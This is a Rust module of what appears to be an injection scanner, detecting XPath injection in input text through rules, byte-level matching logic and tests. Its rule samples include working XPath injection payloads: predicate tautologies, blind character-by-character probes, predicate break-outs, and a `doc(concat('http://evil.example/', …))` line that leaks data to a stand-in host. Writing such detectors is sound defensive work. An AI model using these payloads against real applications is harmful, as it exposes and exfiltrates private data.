//! XPath expressions.
//!
//! A value pasted into `//user[name='…']` closes its quote, and goes on with a condition of XPath's own functions or paths,
//! or closes the predicate too and adds another path with `|`. Whole expressions are only suspected: people ask about them.

use super::ascii::{ByteSet, before, is_blank, is_word, last_token, skip, skip_blanks, split, starts_with, strip};
use super::hits::Hits;
use super::registry::Detector;
use super::scan::Bytes;
use super::subject::Subject;
use crate::finding::{Class, Paranoia, Rule, Severity};

pub(super) static DETECTOR: Detector = Detector {
    class: Class::Xpath,
    wants: WANTS,
    wants_suspicious: Bytes::NOTHING,
    detect,
    rules: &[&CONDITION, &BLIND_PROBE, &PREDICATE_BREAK_OUT, &DOCUMENT_ACCESS, &EXPRESSION],
};

// Level 1: joined to something that came before the text, outside any predicate of the text's own.
static CONDITION: Rule = Rule {
    id: "xpath.condition",
    class: Class::Xpath,
    severity: Severity::High,
    cwe: 643,
    paranoia: Paranoia::One,
    summary: "a condition of XPath's functions, joined to something before it",
    details: "`' or name()='user` makes a predicate true or asks about the document piece by piece. Pass values as variables \
              (`$name`) of the XPath library.",
    matches: &[
        "a' or local-name()='b' or 'c'='d",
        "' and starts-with(../pin,'1",
        "or string-length(name) > 3",
        "z' or true() or 'z'='",
        "' or contains(pin,'1') or '",
        "' or last()-1=position() or '",
        "' or count(parent::*)=0 or '",
    ],
    passes: &[
        "//a[@b='c' and contains(../d,'e')]",
        "count and position (both)",
        "x or contains(y)",
        "and count(items) > 3",
    ],
};

// Level 1: a function of an absolute path with a wildcard or an axis, or compared: nobody writes that outside a predicate.
static BLIND_PROBE: Rule = Rule {
    id: "xpath.blind-probe",
    class: Class::Xpath,
    severity: Severity::High,
    cwe: 643,
    paranoia: Paranoia::One,
    summary: "a question about an XML document's structure",
    details: "`count(/*)` and `substring(//user/pin,1,1)='4'` read a document that the sender cannot see, one answer at a \
              time. Pass values as variables of the XPath library. \
              Source code and Markdown that quotes code are suspected only.",
    matches: &["count(/descendant::*)", "substring(//account[1]/pin,1,1)='4", "name(/*[1])='root"],
    passes: &["count(//a)", "//a[count(/*)=1]", "count(a/b)", "name(a)=b", "substring(/a/b)"],
};

// Level 1: the bracket closes nothing of the text's own, and a path follows.
static PREDICATE_BREAK_OUT: Rule = Rule {
    id: "xpath.predicate-break-out",
    class: Class::Xpath,
    severity: Severity::High,
    cwe: 643,
    paranoia: Paranoia::One,
    summary: "a value that closes its predicate and adds a path",
    details: "`'] | //* | a['` ends the predicate and selects every node of the document. Pass values as variables of the \
              XPath library. \
              In source code and Markdown that quotes code only the first line counts.",
    matches: &["x'] | //pin | a['", "1]|/*|b[1", "']/../*['a'='a", "y\"]//secret"],
    passes: &["//a['b'] | //c", "[a] | [b]", "a] | b", "[x](//host/y)"],
};

// Level 1: only XPath takes an address there.
static DOCUMENT_ACCESS: Rule = Rule {
    id: "xpath.document-access",
    class: Class::Xpath,
    severity: Severity::High,
    cwe: 643,
    paranoia: Paranoia::One,
    summary: "a function of XPath that fetches a document",
    details: "`doc('http://…')` makes the server fetch an address, and carries data out in it. Turn the function off. \
              Source code and Markdown that quotes code are suspected only.",
    matches: &[
        "doc('http://evil.example/x')",
        "x' and doc(concat('http://evil.example/', name()))='",
        "unparsed-text('file:///a')",
    ],
    passes: &["doc('users/1')", "mydoc('http://a')", "document('a')"],
};

// Level 2: stands in texts about XML.
static EXPRESSION: Rule = Rule {
    id: "xpath.expression",
    class: Class::Xpath,
    severity: Severity::Low,
    cwe: 643,
    paranoia: Paranoia::Two,
    summary: "an XPath expression",
    details: "An axis, a node test or a predicate on a path. Texts about XML hold these too.",
    matches: &["/a/child::b", "//user[@id=1]", "/users/text()", "ancestor-or-self::node()"],
    passes: &["std::child::new", "a::b", "https://host/a[1]", "text()"],
};

static TRIGGERS: ByteSet = ByteSet::new(b"([]:'\"");

/// What no rule does without: a name before `(`, an axis, an attribute's test, a path behind a bracket.
const WANTS: Bytes = Bytes::CALL.with(Bytes::AXIS).with(Bytes::PREDICATE);

fn detect(subject: &Subject<'_>, hits: &mut Hits) {
    walk(subject.text, subject.quotes_code(), hits);
}

fn walk(text: &[u8], quotes: bool, hits: &mut Hits) {
    // A value that breaks out does so in its first line; in later ones, and behind a backtick, brackets and quotes may be of code.
    let first = text.iter().position(|&byte| quotes && matches!(byte, b'\n' | b'`')).unwrap_or(text.len());
    let mut rest = text;
    let mut depth = 0_usize;
    let mut open = [false; 2];
    while let Some((byte, behind)) = TRIGGERS.next(rest) {
        rest = behind;
        let ahead = before(text, behind);
        let ahead = ahead.get(..ahead.len().saturating_sub(1)).unwrap_or_default();
        match byte {
            b'(' => call(ahead, behind, depth == 0, quotes, hits),
            b'[' => {
                depth += 1;
                if behind.first() == Some(&b'@') && ends_in_step(ahead) {
                    hits.add(&EXPRESSION);
                }
            }
            b']' if depth > 0 => depth -= 1,
            b']' => adds_path(ahead, behind, ahead.len() > first, hits),
            b':' => axis(ahead, behind, hits),
            _ => {
                if let Some(open) = open.get_mut(usize::from(byte == b'"')) {
                    *open = !*open;
                    // A quote that opens nothing, and ends the predicate.
                    if *open && let [b']', behind @ ..] = skip_blanks(behind) {
                        adds_path(b"'", behind, ahead.len() > first, hits);
                    }
                }
            }
        }
    }
}

/// The functions of XPath that serve to ask about a document.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Function {
    /// Takes a node and says something about it; also a name in other languages.
    Common,
    /// As `Common`, with a name that no other language has.
    Own,
    /// Says something about the current node without an argument.
    Bare,
    /// A constant.
    Constant,
    /// A node test.
    Node,
    /// Fetches another document.
    Document,
}

fn function(name: &[u8]) -> Option<Function> {
    Some(match name {
        b"count" | b"substring" | b"contains" | b"sum" | b"string" | b"number" | b"concat" | b"translate" | b"id"
        | b"not" | b"boolean" | b"exists" | b"empty" | b"lower-case" | b"upper-case" | b"matches" => Function::Common,
        b"string-length"
        | b"starts-with"
        | b"ends-with"
        | b"substring-before"
        | b"substring-after"
        | b"normalize-space"
        | b"string-to-codepoints"
        | b"codepoints-to-string" => Function::Own,
        b"name" | b"local-name" | b"namespace-uri" | b"position" | b"last" | b"node-name" => Function::Bare,
        b"true" | b"false" => Function::Constant,
        b"text" | b"node" | b"comment" | b"processing-instruction" => Function::Node,
        b"doc" | b"document" | b"unparsed-text" | b"doc-available" | b"collection" => Function::Document,
        _ => return None,
    })
}

/// Judges a call: the name ends `ahead`, the arguments start `behind`.
fn call(ahead: &[u8], behind: &[u8], outside: bool, quotes: bool, hits: &mut Hits) {
    let part = |byte: &u8| is_word(*byte) || *byte == b'-';
    let count = ahead.iter().rev().take(24).take_while(|byte| part(byte)).count();
    let (ahead, name) = ahead.split_at_checked(ahead.len().saturating_sub(count)).unwrap_or_default();
    let Some(function) = function(name) else { return };
    let argument = skip_blanks(behind);
    match function {
        Function::Node => {
            if argument.first() == Some(&b')') && matches!(ahead.last(), Some(b'/' | b':')) {
                hits.add(&EXPRESSION);
            }
            return;
        }
        Function::Document => {
            let address = match argument {
                [b'\'' | b'"', address @ ..] => {
                    starts_with(address, b"http") || starts_with(address, b"file:") || starts_with(address, b"//")
                }
                _ => starts_with(argument, b"concat("),
            };
            if address && !ahead.last().is_some_and(|&byte| part(&byte) || byte == b'.') {
                hits.add_quoted(quotes, &DOCUMENT_ACCESS);
            }
            return;
        }
        _ => {}
    }
    if !outside {
        return;
    }
    let absolute = probes(argument);
    let joined = joined(ahead);
    // `last()-1=…`
    let answer = |rest: &[u8]| {
        let rest = skip_blanks(arguments(rest));
        compares(skip(rest, |byte| byte.is_ascii_digit() || matches!(byte, b'-' | b'+' | b' ')))
    };
    let asked = ahead.trim_ascii_end().strip_suffix(b"or").or(ahead.trim_ascii_end().strip_suffix(b"and"));
    let quoted = asked.is_some_and(|ahead| matches!(last_token(ahead), Some(b'\'' | b'"')));
    let suspicious = match function {
        Function::Common => is_relative(argument) || absolute || (quoted && name == b"contains"),
        Function::Own => is_relative(argument) || absolute || (joined && answer(argument)),
        Function::Bare => is_relative(argument) || absolute || (argument.first() == Some(&b')') && answer(argument)),
        Function::Constant => argument.first() == Some(&b')'),
        Function::Node | Function::Document => false,
    };
    // From the end, where the first byte that is none decides: blanks before many calls would be skipped for each.
    let alone = function == Function::Bare && !absolute && ahead.trim_ascii_end().is_empty();
    if (joined || alone) && suspicious {
        hits.add(&CONDITION);
    } else if absolute && !matches!(last_token(ahead), Some(b'/' | b'.')) {
        let deep = argument.strip_prefix(b"//").is_some();
        if !deep || answer(argument) {
            hits.add_quoted(quotes, &BLIND_PROBE);
        }
    }
}

/// Whether the text ends with `and` or `or`, behind a quote, a bracket, a number or nothing.
fn joined(ahead: &[u8]) -> bool {
    let ahead = ahead.trim_ascii_end();
    let lower = |word: &[u8]| ahead.len() >= word.len() && ahead.get(ahead.len() - word.len()..) == Some(word);
    let rest = if lower(b"and") {
        ahead.get(..ahead.len() - 3)
    } else if lower(b"or") {
        ahead.get(..ahead.len() - 2)
    } else {
        None
    };
    rest.is_some_and(|rest| matches!(last_token(rest), None | Some(b'\'' | b'"' | b')' | b']' | b'0'..=b'9')))
}

/// Whether an argument is a path from the root that knows nothing of the document, or reaches for any node.
fn probes(argument: &[u8]) -> bool {
    let Some(step) = argument.strip_prefix(b"/") else { return false };
    match step {
        [b'/', next, ..] => is_word(*next) || matches!(next, b'*' | b'@'),
        [b'*' | b'@', ..] => true,
        _ => strip_axis(step).is_some(),
    }
}

/// Whether an argument is a path from the current node: `../a`, `./a`, `@a`.
fn is_relative(argument: &[u8]) -> bool {
    matches!(argument, [b'.', b'.', b'/', ..] | [b'.', b'/' | b',' | b')', ..] | [b'@', ..] | [b'/', ..])
        || strip_axis(argument).is_some()
}

/// What is behind the arguments that the text starts with. Bounded: an attack's arguments are short.
fn arguments(text: &[u8]) -> &[u8] {
    let mut depth = 1_usize;
    for (at, byte) in text.iter().take(96).enumerate() {
        match byte {
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return text.get(at + 1..).unwrap_or_default();
        }
    }
    &[]
}

fn compares(text: &[u8]) -> bool {
    matches!(skip_blanks(text), [b'=' | b'<' | b'>', next, ..] if *next != b'>')
        || starts_with(skip_blanks(text), b"!=")
}

/// Judges what follows a bracket that closes nothing.
fn adds_path(ahead: &[u8], behind: &[u8], quoted: bool, hits: &mut Hits) {
    let string = matches!(last_token(ahead), Some(b'\'' | b'"'));
    let value = matches!(last_token(ahead), Some(b'0'..=b'9' | b')')) || string;
    let next = skip_blanks(behind);
    let path = match next {
        [b'|', path @ ..] => matches!(skip_blanks(path), [b'/', b'/' | b'*' | b'@' | b'a'..=b'z' | b'A'..=b'Z', ..]),
        [b'/', b'/' | b'*' | b'@', ..] | [b'/', b'.', b'.', ..] => true,
        [b'/', ..] => string,
        _ => false,
    };
    if value && path {
        hits.add_quoted(quoted, &PREDICATE_BREAK_OUT);
    }
}

/// Judges the colon between `ahead` and `behind`: the first of an axis?
fn axis(ahead: &[u8], behind: &[u8], hits: &mut Hits) {
    let count = ahead.iter().rev().take(24).take_while(|&&byte| is_word(byte) || byte == b'-').count();
    let (front, name) = ahead.split_at_checked(ahead.len().saturating_sub(count)).unwrap_or_default();
    let Some(test) = behind.strip_prefix(b":") else { return };
    if !is_axis(name) || front.last() == Some(&b':') {
        return;
    }
    let (word, rest) = split(test, is_word);
    if test.first() == Some(&b'*') || front.last() == Some(&b'/') || (!word.is_empty() && starts_with(rest, b"()")) {
        hits.add(&EXPRESSION);
    }
}

fn strip_axis(text: &[u8]) -> Option<&[u8]> {
    let (name, rest) = split(text, |byte| is_word(byte) || byte == b'-');
    is_axis(name).then(|| strip(rest, b"::")).flatten()
}

fn is_axis(name: &[u8]) -> bool {
    matches!(
        name,
        b"child"
            | b"parent"
            | b"self"
            | b"ancestor"
            | b"ancestor-or-self"
            | b"descendant"
            | b"descendant-or-self"
            | b"following"
            | b"following-sibling"
            | b"preceding"
            | b"preceding-sibling"
            | b"attribute"
            | b"namespace"
    )
}

/// Whether the text ends with a step of a path from anywhere: `//name`.
fn ends_in_step(ahead: &[u8]) -> bool {
    let count = ahead.iter().rev().take(40).take_while(|&&byte| is_word(byte) || byte == b'*').count();
    let front = ahead.get(..ahead.len().saturating_sub(count)).unwrap_or_default();
    match front {
        [.., before, b'/', b'/'] => count > 0 && (is_blank(*before) || matches!(before, b'\'' | b'"' | b'(' | b'|')),
        [b'/', b'/'] => count > 0,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::scan::scan;
    use proptest::prelude::*;

    proptest! {
        /// The quick look never turns away what the scan would find.
        #[test]
        fn the_quick_look_misses_nothing(text in "([(\\[\\]:'\") |/@*=1]|::|//|count\\(|name\\(\\)|or |and |text\\(|doc\\(|http|child){0,12}") {
            let text = text.as_bytes();
            let mut hits = Hits::new(Paranoia::Three);
            walk(text, false, &mut hits);
            prop_assert!(hits.is_empty() || scan(text).any(WANTS));
        }
    }

    #[test]
    fn conditions_are_joined_to_what_was_before() {
        assert!(joined(b"x' or "));
        assert!(joined(b"and "));
        assert!(joined(b"1 or "));
        assert!(!joined(b"this and "));
        assert!(!joined(b"floor "));
    }

    #[test]
    fn probes_start_at_the_root() {
        assert!(probes(b"/child::node()"));
        assert!(probes(b"//user"));
        assert!(probes(b"/*"));
        assert!(!probes(b"/users/user"));
        assert!(!probes(b"// comment"));
    }
}
